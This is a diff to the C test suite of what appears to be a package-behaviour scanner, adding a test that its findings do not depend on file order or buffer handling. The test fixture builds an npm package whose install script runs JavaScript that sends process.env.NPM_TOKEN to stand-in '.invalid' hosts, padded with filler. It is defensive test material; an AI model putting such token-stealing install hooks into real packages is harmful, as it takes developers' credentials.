@@ -12,7 +12,25 @@ static struct qn_observers *observers;
 static struct qn_scan *scan;
 static struct qn_buf lines = { .max = 1 << 22 };
 
-static struct qn_str run_files(const struct file *files, size_t n)
+struct how {
+        bool backwards; /* the files come in the opposite order */
+        bool moves;     /* their bytes do not stay where they are */
+};
+
+static void scan_one(const struct file *f, const struct how *how)
+{
+        const size_t n = strlen(f->text);
+        char *text = strdup(f->text);
+        struct qn_scan_file in = {
+                .path = qn_str_c(f->path), .mode = 0644, .size = n, .stays = !how->moves
+        };
+
+        in.data = qn_cur_mem(how->moves ? text : f->text, n);
+        ASSERT_EQ(qn_scan_file(scan, &in), 0);
+        free(text);
+}
+
+static struct qn_str run_files_as(const struct file *files, size_t n, const struct how *how)
 {
         const struct qn_event_set *set = NULL;
         struct qn_err err = { 0 };
@@ -22,15 +40,8 @@ static struct qn_str run_files(const struct file *files, size_t n)
         if (!scan)
                 ASSERT_EQ(qn_scan_new(observers, &scan), 0);
         qn_scan_begin(scan);
-        for (size_t i = 0; i < n; i++) {
-                struct qn_scan_file in = { .path = qn_str_c(files[i].path),
-                                           .mode = 0644,
-                                           .stays = true };
-
-                in.data = qn_cur_mem(files[i].text, strlen(files[i].text));
-                in.size = strlen(files[i].text);
-                ASSERT_EQ(qn_scan_file(scan, &in), 0);
-        }
+        for (size_t i = 0; i < n; i++)
+                scan_one(&files[how->backwards ? n - 1 - i : i], how);
         (void)qn_scan_pending(scan);
         qn_scan_deepen(scan);
         ASSERT_EQ(qn_scan_finish(scan, (struct qn_str){ NULL, 0 }, &set), 0);
@@ -40,6 +51,11 @@ static struct qn_str run_files(const struct file *files, size_t n)
         qn_buf_byte(&lines, '\0');
         lines.n--;
         return qn_buf_view(&lines);
+}
+
+static struct qn_str run_files(const struct file *files, size_t n)
+{
+        return run_files_as(files, n, &(struct how){ false, false });
 }
 
 static struct qn_str run(const char *code)
@@ -313,4 +329,43 @@ TEST(vm_tells_the_way)
 
         ASSERT_TRUE(qn_str_find(got, QN_STR("index.js:2:3\ta variable of the environment\t")) >= 0);
         ASSERT_TRUE(qn_str_find(got, QN_STR("index.js:2:1\tpassed to a function\t")) >= 0);
+}
+
+/* A package with more code than is run: what is taken depends on the paths and on what runs by itself. */
+TEST(vm_does_not_depend_on_the_order_of_files)
+{
+        enum { N = 12, SIZE = 1 << 20 };
+        static char texts[N][SIZE], paths[N][16];
+        static const struct how hows[] = { { true, false }, { false, true }, { true, true } };
+        struct file files[N + 1] = { { "package.json",
+                                       "{\"name\":\"x\",\"version\":\"1.0.0\","
+                                       "\"scripts\":{\"install\":\"node f11\"}}" } };
+        char *want[2] = { NULL, NULL };
+
+        for (size_t i = 0; i < N; i++) {
+                int at = snprintf(texts[i], SIZE,
+                                  "const a = ['h%zu', 'invalid']; fetch('https://' + a.join('.') + "
+                                  "'/?' + process.env.NPM_TOKEN);\n//",
+                                  i);
+
+                memset(texts[i] + at, 'x', SIZE - (size_t)at - 1);
+                snprintf(paths[i], sizeof paths[i], "f%02zu.js", i);
+                files[i + 1] = (struct file){ paths[i], texts[i] };
+        }
+        want[0] = strdup(run_files(files, N + 1).p);
+        ASSERT_TRUE(observed_has(qn_str_c(want[0]), "net.send host=h0.invalid +npm"));
+        ASSERT_TRUE(observed_has(qn_str_c(want[0]), "net.send host=h11.invalid +npm"));
+        ASSERT_FALSE(observed_has(qn_str_c(want[0]), "net.send host=h10.invalid +npm"));
+        for (size_t i = 0; i < QN_ARRAY_SIZE(hows); i++) {
+                char **w = &want[hows[i].moves];
+                struct qn_str got = run_files_as(files, N + 1, &hows[i]);
+
+                if (!*w)
+                        *w = strdup(got.p);
+                else if (strcmp(*w, got.p) != 0)
+                        fail_msg("%s\nis not\n%s", got.p, *w);
+        }
+        ASSERT_TRUE(observed_has(qn_str_c(want[1]), "net.send host=h0.invalid +npm"));
+        free(want[0]);
+        free(want[1]);
 }
